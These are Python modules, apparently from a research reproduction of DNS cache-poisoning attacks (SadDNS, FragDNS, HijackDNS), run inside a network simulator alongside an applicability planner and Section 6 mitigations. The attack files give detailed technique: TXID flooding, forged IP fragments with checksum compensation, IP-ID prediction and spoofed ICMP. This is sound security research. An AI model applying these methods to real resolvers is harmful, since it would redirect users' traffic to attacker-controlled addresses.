    def isolate_port(self, candidates: list[int]) -> int | None:
        """Divide and conquer over a hit batch until one port remains."""
        config = self.config
        remaining = list(candidates)
        while len(remaining) > 1:
            self.network.run(config.batch_spacing)  # token refill
            half = remaining[: len(remaining) // 2]
            if self.probe_ports(half):
                remaining = half
            else:
                remaining = remaining[len(remaining) // 2:]
        if not remaining:
            return None
        # Final confirmation round on the single survivor.
        self.network.run(config.batch_spacing)
        if self.probe_ports(remaining):
            return remaining[0]
        return None

    # -- step 4: the TXID race -----------------------------------------------------

    def flood_txids(self, port: int, qname: str) -> bool:
        """Spoof responses for every TXID to the discovered port.

        The 2^16 flood packets differ only in the DNS TXID (the first
        payload word), so the UDP checksum is maintained incrementally
        from the TXID-zero sum instead of re-summing every segment —
        the same trick real flooding tools use.  The packets injected,
        and the attacker's per-packet IP-ID draws, are bit-identical to
        encoding each one from scratch.
        """
        config = self.config
        resolver_ip = self.resolver.address
        ns_ip = self.nameserver.address
        attacker = self.attacker
        rng = attacker.rng
        # Encode once; only the two TXID bytes change across the flood.
        template = bytearray(encode_message(attacker.forge_response(
            names.normalise(qname), TYPE_A, 0, self.malicious_records,
        )))
        seg_len = UDP_HEADER_LEN + len(template)
        src_int = ip_to_int(ns_ip)
        dst_int = ip_to_int(resolver_ip)
        header_zero_csum = struct.pack("!HHHH", DNS_PORT, port, seg_len, 0)
        # One's-complement sum of pseudo-header + header + TXID-zero
        # payload; the TXID word is 16-bit aligned, so each TXID adds
        # straight into the folded sum.
        base_sum = ones_complement_sum(
            header_zero_csum + bytes(template),
            (src_int >> 16) + (src_int & 0xFFFF)
            + (dst_int >> 16) + (dst_int & 0xFFFF) + 17 + seg_len,
        )
        for start in range(0, 0x10000, config.txid_flood_chunk):
            for txid in range(start,
                              min(start + config.txid_flood_chunk, 0x10000)):
                template[0] = txid >> 8
                template[1] = txid & 0xFF
                total = base_sum + txid
                total = (total & 0xFFFF) + (total >> 16)
                checksum = (~total) & 0xFFFF
                if checksum == 0:
                    checksum = 0xFFFF
                payload = bytes(template)
                segment = struct.pack("!HHHH", DNS_PORT, port, seg_len,
                                      checksum) + payload
                attacker.inject_udp(Ipv4Packet(
                    src=ns_ip, dst=resolver_ip, proto=PROTO_UDP,
                    payload=segment, ident=rng.pick_txid(),
                    udp=UdpDatagram(sport=DNS_PORT, dport=port,
                                    payload=payload),
                ))
            # Give the chunk a full propagation delay before checking.
            self.network.run(0.012)
            if cache_poisoned(self.resolver, qname,
                              self._planted_ip(qname)):
                return True
        self.network.run(0.05)
        return cache_poisoned(self.resolver, qname, self._planted_ip(qname))

    # -- full attack -----------------------------------------------------------------

    def execute(self, trigger: QueryTrigger,
                qname: str | None = None) -> AttackResult:
        """Run the complete SadDNS loop until poisoned or budget exhausted."""
        config = self.config
        qname = names.normalise(qname if qname is not None
                                else self.target_domain)
        result = AttackResult(method=self.method_name, success=False)
        started = self.network.now
        packets_before = self.attacker.packets_sent
        known_open = set(self.resolver.host.open_ports())
        # The attacker knows the OS-default ephemeral range.
        low = self.resolver.host.config.ephemeral_low
        high = self.resolver.host.config.ephemeral_high
        port_space = [
            p for p in range(low, high + 1) if p not in known_open
        ]
        for iteration in range(config.max_iterations):
            result.iterations = iteration + 1
            self.mute_nameserver()
            trigger.fire(qname, "A")
            result.queries_triggered += 1
            # Let the resolver walk the (cached or live) delegation chain
            # and park on the muted nameserver before scanning: only the
            # final hop's socket lives long enough to matter.
            self.network.run(0.08)
            hit_batch: list[int] | None = None
            for _ in range(config.scan_batches_per_iteration):
                batch = self._rng.sample(port_space, config.batch_size)
                if self.probe_ports(batch):
                    hit_batch = batch
                    break
                self.network.run(config.batch_spacing)
            if hit_batch is not None:
                port = self.isolate_port(hit_batch)
                if port is not None and self.flood_txids(port, qname):
                    result.success = True
                    break
            entry = self.resolver.cache.entry(qname, TYPE_A)
            if entry is not None and not entry.poisoned:
                # The genuine answer slipped through the muting: the
                # record is cached until its TTL expires and further
                # triggers are pointless.  A real attacker waits out the
                # TTL; we flush and account it so hitrate statistics
                # over many iterations remain measurable.
                result.detail.setdefault("genuine_cached", 0)
                result.detail["genuine_cached"] += 1
                self.resolver.cache.flush()
            # Let the remainder of the resolver's window drain before the
            # next triggered query (paper: at most ~2 queries/second).
            self.network.run(config.iteration_budget)
        result.packets_sent = self.attacker.packets_sent - packets_before
        result.duration = self.network.now - started
        result.detail.update({
            "resolver": self.resolver.address,
            "nameserver": self.nameserver.address,
            "ports_scanned_per_iteration":
                config.batch_size * config.scan_batches_per_iteration,
        })
        return result
