"""Applicability planner: which methodology fits which target (Table 1).

The paper's Table 1 is an expert matrix of which poisoning methodology
applies to which application, given how queries are triggered and what
the infrastructure looks like.  :class:`AttackPlanner` reproduces that
reasoning as executable rules over a structured description of the
target, so the Table 1 bench can *derive* the matrix rather than quote
it.
"""

from __future__ import annotations

from dataclasses import dataclass, field

#: The paper's effectiveness ordering (HijackDNS needs two packets,
#: FragDNS hundreds, SadDNS about a million).  ``best()`` and the
#: scenario bridge both follow it; a new methodology joins the ranking
#: here, in one place.
METHOD_PREFERENCE = ("HijackDNS", "FragDNS", "SadDNS")


@dataclass
class TargetProfile:
    """Everything the attacker knows about one resolver/domain/app combo."""

    app_name: str
    query_name_known: bool           # can the attacker learn the qname?
    query_name_choosable: bool       # "target" rows of Table 1
    trigger_style: str               # direct | bounce | authentication |
    #                                  connection | waiting | on-demand
    third_party_trigger: bool = False  # Section 4.3.3 forwarder trick
    # Triggering practical only through an unrelated third-party
    # application sharing the cache (Section 4.3.2/4.3.3).
    third_party_only: bool = False
    ns_prefix_longer_than_24: bool = False  # announcement size > /24?
    resolver_prefix_longer_than_24: bool = False
    resolver_global_icmp_limit: bool = True
    ns_rate_limited: bool = True
    ns_honours_ptb: bool = True
    response_can_exceed_frag_limit: bool = True
    resolver_edns_at_least_response: bool = True
    resolver_accepts_fragments: bool = True
    dnssec_validated: bool = False
    # -- deployed defenses (repro.defenses hardens these via
    # ``DefenseStack.harden_profile``) ----------------------------------------
    resolver_uses_0x20: bool = False
    ns_randomizes_record_order: bool = False
    rov_protects_prefixes: bool = False

    @classmethod
    def defaults(cls) -> dict[str, bool]:
        """The paper's standard-infrastructure assumption, in one place.

        These are the flag values Table 1 assumes for a typical target
        (Sections 4.4/5): announcements longer than /24, rate-limited
        nameservers, PMTUD honoured, fragmentable responses, no DNSSEC.
        ``Application._base_profile`` and the atlas calibration bridge
        both start from this dict instead of keeping private copies.
        """
        return dict(
            ns_prefix_longer_than_24=True,
            resolver_prefix_longer_than_24=True,
            resolver_global_icmp_limit=True,
            ns_rate_limited=True,
            ns_honours_ptb=True,
            response_can_exceed_frag_limit=True,
            resolver_edns_at_least_response=True,
            resolver_accepts_fragments=True,
            dnssec_validated=False,
            resolver_uses_0x20=False,
            ns_randomizes_record_order=False,
            rov_protects_prefixes=False,
        )


@dataclass
class MethodChoice:
    """One methodology's applicability verdict for a target."""

    method: str
    applicable: bool
    reasons: list[str] = field(default_factory=list)
    needs_third_party: bool = False

    @property
    def symbol(self) -> str:
        """Table 1 cell notation."""
        if not self.applicable:
            return "x"
        return "v2" if self.needs_third_party else "v"


@dataclass
class ApplicabilityVerdict:
    """Full planner output for one target."""

    target: TargetProfile
    choices: dict[str, MethodChoice] = field(default_factory=dict)

    def best(self) -> MethodChoice | None:
        """The preferred applicable method (hijack > frag > saddns).

        Ordering follows the paper's effectiveness analysis: HijackDNS
        needs two packets, FragDNS hundreds, SadDNS about a million.
        """
        for method in METHOD_PREFERENCE:
            choice = self.choices.get(method)
            if choice is not None and choice.applicable:
                return choice
        return None


class AttackPlanner:
    """Rule engine reproducing the Table 1 applicability reasoning."""

    def assess(self, target: TargetProfile) -> ApplicabilityVerdict:
        """Evaluate all three methodologies against one target."""
        verdict = ApplicabilityVerdict(target=target)
        verdict.choices["HijackDNS"] = self._assess_hijack(target)
        verdict.choices["SadDNS"] = self._assess_saddns(target)
        verdict.choices["FragDNS"] = self._assess_fragdns(target)
        return verdict

    def plan(self, target: TargetProfile,
             defenses=None) -> ApplicabilityVerdict:
        """Defense-aware assessment: harden the profile, then assess.

        ``defenses`` is a :class:`repro.defenses.DefenseStack` (or
        anything with its ``harden_profile`` surface); the Table 1
        verdicts then answer "which methodology still applies once this
        stack is deployed?" — the question Section 6 argues must be
        asked of the whole chain, not per layer.
        """
        if defenses is not None:
            target = defenses.harden_profile(target)
        return self.assess(target)

    @staticmethod
    def _style(target: TargetProfile) -> str:
        """Normalised trigger style ('connection DoS' -> 'connection')."""
        return target.trigger_style.split()[0].split("/")[0]

    def _can_trigger(self, target: TargetProfile) -> tuple[bool, bool, str]:
        """(can trigger at all, needs third party, reason)."""
        style = self._style(target)
        if target.third_party_only:
            return True, True, \
                "triggering requires a third-party application"
        if target.query_name_choosable:
            return True, False, "query name attacker-controlled"
        if target.query_name_known:
            if style in ("direct", "bounce", "authentication", "on-demand"):
                return True, False, "known name, externally triggerable"
            if style in ("waiting", "connection"):
                return True, True, \
                    "only the device's own timer issues the query; " \
                    "repeatable triggering needs a third-party application"
        if target.third_party_trigger:
            return True, True, "trigger via third-party application"
        return False, False, "no way to trigger or predict the query"

    def _assess_hijack(self, target: TargetProfile) -> MethodChoice:
        choice = MethodChoice(method="HijackDNS", applicable=True)
        can, _needs_3p, reason = self._can_trigger(target)
        choice.reasons.append(reason)
        if not can and not target.query_name_known:
            # Even then, the hijack can simply persist until a natural
            # query occurs — the name is configuration that the paper
            # says must be "fetched out of band".
            choice.reasons.append(
                "hijack persists until a natural query occurs "
                "(domain name fetched out of band)")
        # Interception needs no attacker-timed triggering at all, so the
        # third-party footnote never applies to HijackDNS in Table 1.
        choice.needs_third_party = False
        if not (target.ns_prefix_longer_than_24
                or target.resolver_prefix_longer_than_24):
            choice.reasons.append(
                "both prefixes announced at /24: sub-prefix filtered, "
                "same-prefix hijack still possible (topology dependent)")
        if target.rov_protects_prefixes:
            choice.applicable = False
            choice.reasons.append(
                "ROV deployed with covering ROAs: the origin-invalid "
                "announcement is filtered")
        if target.dnssec_validated:
            choice.applicable = False
            choice.reasons.append("DNSSEC-validated domain: forgery rejected")
        return choice

    def _assess_saddns(self, target: TargetProfile) -> MethodChoice:
        choice = MethodChoice(method="SadDNS", applicable=True)
        can, needs_3p, reason = self._can_trigger(target)
        choice.reasons.append(reason)
        style = self._style(target)
        timer_only = style in ("waiting", "connection") \
            and not target.query_name_choosable \
            and not target.third_party_trigger \
            and not target.third_party_only
        if not can or timer_only:
            # SadDNS needs *many* attacker-timed queries; passively
            # waiting for timers does not give enough attempts.
            choice.applicable = False
            choice.reasons.append(
                "needs a large volume of attacker-timed queries")
            return choice
        choice.needs_third_party = needs_3p
        if not target.resolver_global_icmp_limit:
            choice.applicable = False
            choice.reasons.append("resolver has no global ICMP limit")
        if not target.ns_rate_limited:
            choice.applicable = False
            choice.reasons.append(
                "nameserver not rate-limited: cannot mute the race")
        if target.resolver_uses_0x20:
            choice.applicable = False
            choice.reasons.append(
                "0x20 query-case encoding: forged responses miss the "
                "case challenge")
        if target.dnssec_validated:
            choice.applicable = False
            choice.reasons.append("DNSSEC-validated domain: forgery rejected")
        return choice

    def _assess_fragdns(self, target: TargetProfile) -> MethodChoice:
        choice = MethodChoice(method="FragDNS", applicable=True)
        can, needs_3p, reason = self._can_trigger(target)
        choice.reasons.append(reason)
        if not can:
            choice.applicable = False
            return choice
        # Fragments can be planted ahead of a *predicted* timer query,
        # but repeated attempts still need a third-party trigger.
        choice.needs_third_party = needs_3p
        if not target.ns_honours_ptb:
            choice.applicable = False
            choice.reasons.append("nameserver ignores ICMP frag-needed")
        if not target.response_can_exceed_frag_limit:
            choice.applicable = False
            choice.reasons.append(
                "responses smaller than the minimum fragment size")
        if not target.resolver_edns_at_least_response:
            choice.applicable = False
            choice.reasons.append(
                "resolver EDNS buffer below response size: truncation")
        if not target.resolver_accepts_fragments:
            choice.applicable = False
            choice.reasons.append("resolver firewall drops fragments")
        if target.ns_randomizes_record_order:
            choice.applicable = False
            choice.reasons.append(
                "record-order randomisation: second-fragment checksum "
                "unpredictable")
        if target.dnssec_validated:
            choice.applicable = False
            choice.reasons.append("DNSSEC-validated domain: forgery rejected")
        return choice
