"""Query triggering: how the attacker makes the victim resolver look up.

Paper Section 4.3.  The hardest part of a cross-layer attack is causing
(or predicting) the victim resolver's query.  The strategies here are the
application-independent ones; application-specific triggers (email
bounce, RADIUS federation, web objects) live with their applications in
:mod:`repro.apps` and simply conform to the same protocol.
"""

from __future__ import annotations

from abc import ABC, abstractmethod
from dataclasses import dataclass

from repro.core.rng import DeterministicRNG
from repro.dns.message import make_query
from repro.dns.records import type_code
from repro.dns.wire import encode_message
from repro.netsim.host import Host

DNS_PORT = 53


class QueryTrigger(ABC):
    """Strategy: make the victim resolver issue a query for (name, type)."""

    #: how Table 1 refers to this trigger style
    style: str = "abstract"

    @abstractmethod
    def fire(self, qname: str, qtype: int | str = "A") -> None:
        """Cause the target resolver to start resolving (qname, qtype)."""

    def cadence(self) -> float | None:
        """Seconds between query opportunities; None = attacker-chosen."""
        return None


class SpoofedClientTrigger(QueryTrigger):
    """Spoof a client query from an address inside the resolver's ACL.

    This is the trigger in Figure 1 (``src=30.0.0.1``): the attacker
    spoofs the query as if a legitimate internal client asked.  Works
    whenever spoofing is possible and the resolver serves an internal
    prefix; the response goes to the spoofed client, which ignores it.
    """

    style = "direct"

    def __init__(self, attacker_host: Host, resolver_ip: str,
                 client_ip: str, rng: DeterministicRNG | None = None):
        self.attacker_host = attacker_host
        self.resolver_ip = resolver_ip
        self.client_ip = client_ip
        self.rng = rng if rng is not None else DeterministicRNG("trigger")
        self.fired = 0

    def fire(self, qname: str, qtype: int | str = "A") -> None:
        if isinstance(qtype, str):
            qtype = type_code(qtype)
        query = make_query(qname, qtype, self.rng.pick_txid())
        from repro.netsim.wire import make_udp_packet

        packet = make_udp_packet(
            src=self.client_ip, dst=self.resolver_ip,
            sport=self.rng.pick_port(), dport=DNS_PORT,
            payload=encode_message(query),
        )
        self.attacker_host.raw_send(packet)
        self.fired += 1


class OpenResolverTrigger(QueryTrigger):
    """Query an open resolver (or open forwarder) directly.

    Per Section 4.3.3, 79% of the resolvers serving web clients are
    reachable through some open forwarder, so this is the default path
    for attacking "closed" resolvers.
    """

    style = "direct"

    def __init__(self, attacker_host: Host, resolver_ip: str,
                 rng: DeterministicRNG | None = None):
        self.attacker_host = attacker_host
        self.resolver_ip = resolver_ip
        self.rng = rng if rng is not None else DeterministicRNG("open-trig")
        self.fired = 0

    def fire(self, qname: str, qtype: int | str = "A") -> None:
        if isinstance(qtype, str):
            qtype = type_code(qtype)
        query = make_query(qname, qtype, self.rng.pick_txid())
        from repro.netsim.wire import make_udp_packet

        packet = make_udp_packet(
            src=self.attacker_host.address, dst=self.resolver_ip,
            sport=self.rng.pick_port(), dport=DNS_PORT,
            payload=encode_message(query),
        )
        self.attacker_host.raw_send(packet)
        self.fired += 1


class CallableTrigger(QueryTrigger):
    """Adapter for application-provided trigger functions.

    ``fn(qname, qtype)`` performs the application action (sending an
    email to a non-existent user, fetching a web object, connecting to a
    federated peer ...) whose side effect is the DNS query.
    """

    def __init__(self, fn, style: str = "application",
                 cadence_seconds: float | None = None):
        self._fn = fn
        self.style = style
        self._cadence = cadence_seconds
        self.fired = 0

    def fire(self, qname: str, qtype: int | str = "A") -> None:
        self._fn(qname, qtype)
        self.fired += 1

    def cadence(self) -> float | None:
        return self._cadence


@dataclass
class TimerPrediction:
    """Waiting for a device's own periodic query (Table 2 "timer" rows).

    The attacker cannot fire the query; it can only predict the next
    firing from the device's refresh period and plant its attack in the
    window around it.
    """

    period: float
    last_observed: float

    def next_window(self, now: float) -> tuple[float, float]:
        """(start, end) of the next predicted query window."""
        if self.period <= 0:
            raise ValueError("period must be positive")
        elapsed = now - self.last_observed
        cycles = int(elapsed // self.period) + 1
        start = self.last_observed + cycles * self.period
        return (start - 0.5, start + 0.5)
