"""FragDNS: cache poisoning via IPv4 fragment injection.

Paper Section 3.3 (Figure 2).  The attack never touches the DNS
challenge values at all — they live in the *first* fragment, which the
genuine nameserver supplies.  Instead the attacker:

1. sends a spoofed ICMP Fragmentation-Needed to the nameserver so its
   responses to the victim resolver fragment at a tiny MTU (PMTUD);
2. reconstructs the genuine response bytes by querying the nameserver
   itself, locates the answer rdata in the second fragment, overwrites
   it with the attacker's address, and repairs the UDP checksum by
   adjusting the record's TTL field (one's-complement compensation);
3. predicts the IP-ID the response will carry — trivial against global
   counters (sample, then plant a window), blind 64-in-65536 guessing
   against randomised IP-IDs — and plants the crafted second fragment
   in the resolver's defragmentation cache under each predicted ID;
4. triggers the query; the genuine first fragment reassembles with the
   planted second fragment, the checksum verifies, the TXID matches
   (it is genuine), and the poisoned record enters the cache.

Table 6's FragDNS numbers (hitrate 20% global / 0.1% random IP-ID,
5 / 1024 queries, 325 / 65K packets) emerge from these mechanics.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.attacks.base import AttackResult, OffPathAttacker, cache_poisoned
from repro.attacks.trigger import QueryTrigger
from repro.core.errors import AttackError
from repro.core.rng import DeterministicRNG
from repro.dns import names
from repro.dns.message import make_query
from repro.dns.nameserver import AuthoritativeServer
from repro.dns.records import TYPE_A
from repro.dns.resolver import RecursiveResolver
from repro.dns.wire import encode_message
from repro.netsim.addresses import ip_to_int
from repro.netsim.checksum import checksum_compensation, ones_complement_sum
from repro.netsim.host import LINUX_MIN_PMTU
from repro.netsim.network import Network
from repro.netsim.packet import (
    ICMP_DEST_UNREACHABLE,
    ICMP_FRAG_NEEDED,
    IcmpMessage,
    Ipv4Packet,
)
from repro.netsim.wire import encode_ipv4, make_udp_packet

DNS_PORT = 53


@dataclass
class FragDnsConfig:
    """Attack tunables."""

    forced_mtu: int = 68            # the ICMP PTB advertised MTU
    planted_per_attempt: int = 64   # fill the 64-slot defrag cache
    max_attempts: int = 4000
    ipid_strategy: str = "auto"     # "auto" | "sample-global" | "blind"
    # World model: how far the nameserver's global IP-ID counter advances
    # between the attacker's sample and the raced response, due to the
    # nameserver's other clients.  Uniform[lo, hi); hi=320 with a planted
    # window of 64 gives the paper's ~20% hitrate for global counters.
    cross_traffic_advance: tuple[int, int] = (0, 320)
    attempt_spacing: float = 1.0


class FragDnsAttack:
    """Execute FragDNS against one resolver/nameserver pair."""

    method_name = "FragDNS"

    def __init__(self, attacker: OffPathAttacker, network: Network,
                 resolver: RecursiveResolver,
                 nameserver: AuthoritativeServer, target_domain: str,
                 malicious_ip: str | None = None,
                 config: FragDnsConfig | None = None,
                 world_rng: DeterministicRNG | None = None):
        self.attacker = attacker
        self.network = network
        self.resolver = resolver
        self.nameserver = nameserver
        self.target_domain = names.normalise(target_domain)
        self.malicious_ip = malicious_ip or attacker.address
        self.config = config if config is not None else FragDnsConfig()
        self._rng = attacker.rng.derive("fragdns")
        # The "rest of the Internet" querying the nameserver; this noise
        # source belongs to the harness, not the attacker.
        self._world_rng = world_rng if world_rng is not None \
            else DeterministicRNG("fragdns-world")
        self._template: bytes | None = None
        self._genuine_ip: str | None = None

    # -- step 1: force fragmentation --------------------------------------------

    def force_fragmentation(self) -> None:
        """Spoof ICMP Fragmentation-Needed at the nameserver (PMTUD)."""
        fake_original = make_udp_packet(
            src=self.nameserver.address, dst=self.resolver.address,
            sport=DNS_PORT, dport=3333, payload=b"x" * 16,
        )
        embedded = encode_ipv4(fake_original)[:28]
        self.attacker.spoof_icmp(
            src=self.resolver.address, dst=self.nameserver.address,
            message=IcmpMessage(
                icmp_type=ICMP_DEST_UNREACHABLE, code=ICMP_FRAG_NEEDED,
                mtu=self.config.forced_mtu, embedded=embedded,
            ),
        )
        self.network.run(0.05)

    def effective_mtu(self) -> int:
        """The MTU the nameserver will actually use toward the resolver."""
        return self.nameserver.host.path_mtu(self.resolver.address)

    # -- step 2: reconstruct and rewrite the response ------------------------------

    def reconnoitre(self, qname: str) -> bytes:
        """Learn the genuine response bytes by asking the nameserver.

        The attacker queries from its own address; everything except the
        TXID (first fragment, irrelevant) matches what the resolver will
        receive, provided the server does not randomise record order.
        """
        captured: dict[str, bytes] = {}
        query = make_query(names.normalise(qname), TYPE_A,
                           txid=self._rng.pick_txid(),
                           edns_udp_size=self.resolver.config.edns_udp_size,
                           recursion_desired=False)

        def on_reply(datagram, src, dst):
            if src == self.nameserver.address:
                captured["payload"] = datagram.payload

        socket = self.attacker.host.open_udp(None, on_reply)
        socket.sendto(self.nameserver.address, DNS_PORT,
                      encode_message(query))
        self.attacker.packets_sent += 1
        self.network.run(0.1)
        socket.close()
        if "payload" not in captured:
            raise AttackError("reconnaissance query got no response")
        # Rebuild the exact UDP segment the resolver will see: the UDP
        # header differs (ports/length/checksum) but those bytes are in
        # the first fragment; only the DNS payload layout matters here.
        self._template = captured["payload"]
        return self._template

    def fragment_boundary(self) -> int:
        """Offset (within the UDP segment) where the second fragment starts."""
        mtu = self.effective_mtu()
        return ((mtu - 20) // 8) * 8

    def craft_second_fragment(self, qname: str) -> bytes:
        """Build the malicious replacement for the genuine second fragment.

        Rewrites the answer's A rdata to the attacker address and
        compensates the UDP checksum through the record's TTL so the
        post-reassembly verification still passes.
        """
        if self._template is None:
            self.reconnoitre(qname)
        assert self._template is not None
        dns_payload = self._template
        # UDP segment = 8-byte header + DNS payload; fragment offsets are
        # relative to the segment start.
        segment_tail_offset = self.fragment_boundary()
        dns_offset = segment_tail_offset - 8  # skip UDP header bytes
        if dns_offset < 0:
            raise AttackError("fragment boundary inside the UDP header")
        genuine_tail = dns_payload[dns_offset:]
        genuine_addresses = [
            r.data for r in self.nameserver.zones.zone_for(qname).lookup(
                names.normalise(qname), TYPE_A)
            if r.rtype == TYPE_A
        ]
        if not genuine_addresses:
            raise AttackError(f"no A record to overwrite for {qname}")
        self._genuine_ip = genuine_addresses[0]
        malicious = bytearray(genuine_tail)
        evil = ip_to_int(self.malicious_ip).to_bytes(4, "big")
        rewritten: list[int] = []      # rdata offsets (payload-relative)
        for address in genuine_addresses:
            needle = ip_to_int(address).to_bytes(4, "big")
            search_from = max(dns_offset, 12)
            while True:
                rdata_at = dns_payload.find(needle, search_from)
                if rdata_at < 0:
                    break
                search_from = rdata_at + 1
                if rdata_at < dns_offset:
                    continue
                rel = rdata_at - dns_offset
                malicious[rel:rel + 4] = evil
                rewritten.append(rdata_at)
        if not rewritten:
            raise AttackError(
                "no answer rdata lies fully inside the second fragment"
                f" (boundary {segment_tail_offset}); the response is too"
                " small — a longer qname or larger response is needed"
            )
        # Checksum repair: find an even-aligned (relative to the UDP
        # segment) 16-bit slot inside one rewritten record's TTL field
        # that also sits inside the second fragment.
        slot = -1
        for rdata_at in rewritten:
            ttl_at = rdata_at - 6
            candidate = ttl_at if ttl_at % 2 == 0 else ttl_at + 1
            if candidate >= dns_offset and candidate + 2 <= rdata_at - 2:
                slot = candidate
                break
        if slot < 0:
            raise AttackError(
                "no rewritable record has its TTL inside the second"
                " fragment; cannot compensate the UDP checksum"
            )
        rel_slot = slot - dns_offset
        malicious[rel_slot:rel_slot + 2] = b"\x00\x00"
        compensation = checksum_compensation(genuine_tail, bytes(malicious))
        malicious[rel_slot:rel_slot + 2] = compensation.to_bytes(2, "big")
        if ones_complement_sum(bytes(malicious)) \
                != ones_complement_sum(genuine_tail):
            raise AttackError("checksum compensation failed")
        return bytes(malicious)

    # -- step 3: IP-ID prediction ----------------------------------------------------

    def sample_ipid(self) -> int | None:
        """Observe the nameserver's current IP-ID by eliciting a response."""
        observed: dict[str, int] = {}

        def tap(packet: Ipv4Packet) -> None:
            if packet.src == self.nameserver.address:
                observed["ipid"] = packet.ident

        previous_tap = self.attacker.host.packet_tap
        self.attacker.host.packet_tap = tap
        try:
            query = make_query(
                f"{names.random_label(self._rng)}.{self.target_domain}",
                TYPE_A, self._rng.pick_txid(), recursion_desired=False,
            )
            socket = self.attacker.host.open_udp(None, None)
            socket.sendto(self.nameserver.address, DNS_PORT,
                          encode_message(query))
            self.attacker.packets_sent += 1
            self.network.run(0.1)
            socket.close()
        finally:
            self.attacker.host.packet_tap = previous_tap
        return observed.get("ipid")

    def predict_ipids(self) -> list[int]:
        """The IP-ID window to plant fragments under."""
        config = self.config
        strategy = config.ipid_strategy
        if strategy == "auto":
            strategy = ("sample-global"
                        if self.nameserver.host.ipid.observe() is not None
                        else "blind")
        if strategy == "sample-global":
            sampled = self.sample_ipid()
            if sampled is None:
                strategy = "blind"
            else:
                return [(sampled + 1 + i) & 0xFFFF
                        for i in range(config.planted_per_attempt)]
        return self._rng.sample(range(0x10000), config.planted_per_attempt)

    # -- full attack --------------------------------------------------------------------

    def execute(self, trigger: QueryTrigger,
                qname: str | None = None) -> AttackResult:
        """Run the complete FragDNS loop until poisoned or budget exhausted."""
        config = self.config
        qname = names.normalise(qname if qname is not None
                                else self.target_domain)
        result = AttackResult(method=self.method_name, success=False)
        started = self.network.now
        packets_before = self.attacker.packets_sent
        self.force_fragmentation()
        if self.effective_mtu() >= self.nameserver.host.config.mtu:
            result.detail["reason"] = (
                "nameserver ignored ICMP fragmentation-needed (PMTUD off"
                " or MTU clamped); responses will not fragment"
            )
            result.duration = self.network.now - started
            return result
        try:
            malicious_tail = self.craft_second_fragment(qname)
        except AttackError as exc:
            result.detail["reason"] = str(exc)
            result.duration = self.network.now - started
            return result
        boundary = self.fragment_boundary()
        ns_host = self.nameserver.host
        for attempt in range(config.max_attempts):
            result.iterations = attempt + 1
            idents = self.predict_ipids()
            for ident in idents:
                self.attacker.spoof_fragment(
                    src=self.nameserver.address, dst=self.resolver.address,
                    ident=ident, frag_offset_bytes=boundary,
                    payload=malicious_tail, more_fragments=False,
                )
            # World noise: other clients of the nameserver advance its
            # global IP-ID between our sample and the raced response.
            lo, hi = config.cross_traffic_advance
            if ns_host.ipid.observe() is not None and hi > lo:
                advance = self._world_rng.randint(lo, max(lo, hi - 1))
                for _ in range(advance):
                    ns_host.ipid.next_id("world")
            trigger.fire(qname, "A")
            result.queries_triggered += 1
            self.network.run(0.4)
            if cache_poisoned(self.resolver, qname, self.malicious_ip):
                result.success = True
                break
            entry = self.resolver.cache.entry(qname, TYPE_A)
            if entry is not None:
                # The genuine (or truncation-fallback TCP) answer landed:
                # the record is cached and the race is over until it
                # expires.  Real attackers wait out the TTL; we account
                # the failure and keep going after flushing, so hitrate
                # statistics over many attempts stay measurable.
                result.detail.setdefault("genuine_cached", 0)
                result.detail["genuine_cached"] += 1
                self.resolver.cache.flush()
            self.network.run(config.attempt_spacing)
        result.packets_sent = self.attacker.packets_sent - packets_before
        result.duration = self.network.now - started
        result.detail.update({
            "forced_mtu": config.forced_mtu,
            "effective_mtu": self.effective_mtu(),
            "fragment_boundary": boundary,
            "ipid_policy": ns_host.ipid.name,
        })
        return result
