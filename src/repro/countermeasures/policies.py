"""The Section 6 mitigations as testbed configuration bundles.

.. deprecated::
    This module predates :mod:`repro.defenses` and is kept as a thin
    compatibility shim: each :class:`Mitigation` maps onto the
    registered :class:`repro.defenses.Defense` of the same key
    (:meth:`Mitigation.as_defense`), and the evaluation entry points in
    :mod:`repro.countermeasures.evaluation` delegate to the defense-
    stack grid.  New code should build
    :class:`repro.defenses.DefenseStack` objects and attach them to
    scenarios (``AttackScenario(defenses=...)``).
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING, Any

from repro.dns.nameserver import NameserverConfig
from repro.dns.resolver import ResolverConfig
from repro.netsim.host import LINUX_MIN_PMTU, HostConfig

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.defenses import Defense


@dataclass(frozen=True)
class Mitigation:
    """One deployable countermeasure from Section 6 (legacy surface)."""

    key: str
    description: str
    paper_section: str
    resolver_overrides: dict[str, Any] = field(default_factory=dict)
    ns_config_overrides: dict[str, Any] = field(default_factory=dict)
    resolver_host_overrides: dict[str, Any] = field(default_factory=dict)
    ns_host_overrides: dict[str, Any] = field(default_factory=dict)
    signed_target: bool = False
    # Which attacks this is expected to defeat ("HijackDNS", "SadDNS",
    # "FragDNS") — the ablation bench asserts these expectations.
    defeats: tuple[str, ...] = ()

    def testbed_kwargs(self, base_resolver: ResolverConfig | None = None,
                       base_ns: NameserverConfig | None = None,
                       base_resolver_host: HostConfig | None = None,
                       base_ns_host: HostConfig | None = None) -> dict:
        """Keyword arguments for :func:`repro.testbed.standard_testbed`.

        The base configs are *never mutated*: overrides are applied to
        copies, so one config object can safely parameterise many
        testbeds or scenario sweeps (the same contract as
        ``Testbed.make_host`` and ``Defense.apply``).
        """
        from repro.testbed import default_resolver_config

        resolver_base = base_resolver if base_resolver is not None \
            else default_resolver_config()
        ns_base = base_ns if base_ns is not None else NameserverConfig()
        resolver_host_base = base_resolver_host \
            if base_resolver_host is not None else HostConfig()
        ns_host_base = base_ns_host if base_ns_host is not None \
            else HostConfig()
        return {
            "resolver_config": replace(resolver_base,
                                       **self.resolver_overrides),
            "ns_config": replace(ns_base, **self.ns_config_overrides),
            "host_config": replace(resolver_host_base,
                                   **self.resolver_host_overrides),
            "ns_host_config": replace(ns_host_base,
                                      **self.ns_host_overrides),
            "signed_target": self.signed_target,
        }

    def as_defense(self) -> "Defense":
        """The first-class :mod:`repro.defenses` equivalent."""
        from repro.defenses import resolve_defense

        return resolve_defense(self.key)


MITIGATION_0X20 = Mitigation(
    key="0x20-encoding",
    description="Randomise query-name case; responses must echo it",
    paper_section="6.1",
    resolver_overrides={"use_0x20": True},
    defeats=("SadDNS",),
)

MITIGATION_RANDOMIZE_RECORDS = Mitigation(
    key="randomize-records",
    description="Nameserver shuffles records so checksums are unpredictable",
    paper_section="6.1",
    ns_config_overrides={"randomize_record_order": True},
    defeats=("FragDNS",),
)

